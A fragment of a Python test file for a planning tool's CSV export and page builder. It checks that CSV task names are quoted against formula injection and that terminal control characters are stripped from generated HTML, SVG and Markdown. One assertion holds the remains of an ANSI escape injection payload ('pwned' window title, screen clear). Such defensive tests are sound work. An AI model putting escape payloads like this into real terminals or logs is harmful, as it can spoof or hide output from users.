    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert [rows[f"live/t{i}"]["name"] for i in range(len(names))] == ["'" + name for name in names]
    assert rows["live/plain"]["name"] == "普通任務"
    lags = [row["lag"] for row in rows.values()]
    assert any(lag.startswith("-") for lag in lags), lags  # a negative number keeps its sign, unquoted


def test_control_characters_in_plan_text_reach_no_page(ansi_repo):
    """ESC, BEL, DEL and the C1 controls in names: no HTML page, inline SVG or Markdown
    file holds one (HTML counts them as parse errors; XML cannot hold C0 at all); the rest
    of the name stays."""
    result = ansi_repo.run("build")
    assert result.exit_code == 0, result.output
    written = [p for folder in ("site", "reports") for p in (ansi_repo.root / folder).rglob("*")
               if p.suffix in (".html", ".md", ".svg", ".css", ".js")]
    assert written
    for path in written:
        text = path.read_text(encoding="utf-8")
        assert not RAW_CONTROL.findall(text.replace("\r", "")), (path.name, RAW_CONTROL.findall(text))
    portfolio = (ansi_repo.root / "site" / "portfolio.html").read_text(encoding="utf-8")
    assert "新腳本[31m]0;pwned[2J1m" in portfolio
